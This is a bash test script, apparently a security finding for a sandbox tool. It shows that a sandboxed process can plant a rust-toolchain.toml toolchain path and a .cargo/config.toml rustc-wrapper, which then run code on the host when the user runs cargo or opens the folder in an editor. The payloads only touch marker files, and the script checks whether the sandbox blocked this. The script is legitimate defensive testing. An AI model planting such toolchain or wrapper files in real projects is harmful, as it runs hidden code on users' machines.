#!/bin/bash
# Finding (class a, code run outside at the user's next cargo/rustc command or editor open): nothing
# protects the Rust toolchain files of a project. rustup reads `rust-toolchain.toml` (or `rust-toolchain`)
# in the directory and every ancestor, and `[toolchain] path = "/abs/dir"` makes every proxied command
# (`cargo --version`, `cargo fmt`, `rustc`, rust-analyzer's `cargo metadata` at editor open) exec
# `/abs/dir/bin/<tool>`. Likewise `.cargo/config.toml` `build.rustc-wrapper` runs at `cargo metadata`,
# which builds nothing and runs no build script: what an editor does when the folder is opened.
# Usage: CORDON=... findings/rust-toolchain-path.sh   (root or any user; the host half needs rustup on
# PATH for the user who runs it, as root has here)
set -u
CORDON=${CORDON:-$(pwd)/build/cordon}
command -v cargo >/dev/null || { echo "no cargo on PATH: cannot show the host half"; exit 77; }
HOST_CARGO_HOME=${CARGO_HOME:-$HOME/.cargo}; HOST_RUSTUP_HOME=${RUSTUP_HOME:-$HOME/.rustup}
B=$(mktemp -d /var/tmp/atk.XXXXXX); chmod 755 "$B"; export HOME=$B/home; mkdir -p "$HOME"
W=$B/proj; M1=$B/marker-toolchain M2=$B/marker-wrapper
for d in a b; do mkdir -p "$W/$d/src"; printf '[package]\nname = "p"\nversion = "0.1.0"\nedition = "2021"\n' > "$W/$d/Cargo.toml"; echo 'fn main() {}' > "$W/$d/src/main.rs"; done
cd "$W"
# inside: the default profile, workdir = the project (two crates: a gets the wrapper, b the toolchain)
"$CORDON" run -- sh -c '
  mkdir -p b/tc/bin b/tc/lib a/.cargo
  printf "#!/bin/sh\ntouch %s\necho cargo 1.99.0\n" "$1" > b/tc/bin/cargo
  cp b/tc/bin/cargo b/tc/bin/rustc; chmod +x b/tc/bin/*
  printf "[toolchain]\npath = \"%s/b/tc\"\n" "$PWD" > b/rust-toolchain.toml
  printf "#!/bin/sh\ntouch %s\nexec \"\$@\"\n" "$2" > a/w.sh; chmod +x a/w.sh
  printf "[build]\nrustc-wrapper = \"%s/a/w.sh\"\n" "$PWD" > a/.cargo/config.toml
  echo written inside' sh "$M1" "$M2" 2>&1
# the host, later: the user's own ordinary commands in the project
export CARGO_HOME=$HOST_CARGO_HOME RUSTUP_HOME=$HOST_RUSTUP_HOME
(cd a && cargo metadata --format-version 1 >/dev/null 2>&1)   # what rust-analyzer runs at folder open
(cd b && cargo --version >/dev/null 2>&1)
rc=0
[ -e "$M2" ] && { echo "ESCAPE: the host's cargo metadata ran the sandbox's rustc-wrapper (.cargo/config.toml)"; rc=1; } || echo "held: .cargo/config.toml"
[ -e "$M1" ] && { echo "ESCAPE: the host's cargo --version ran the sandbox's toolchain (rust-toolchain.toml path)"; rc=1; } || echo "held: rust-toolchain.toml"
rm -rf "$B"; exit $rc
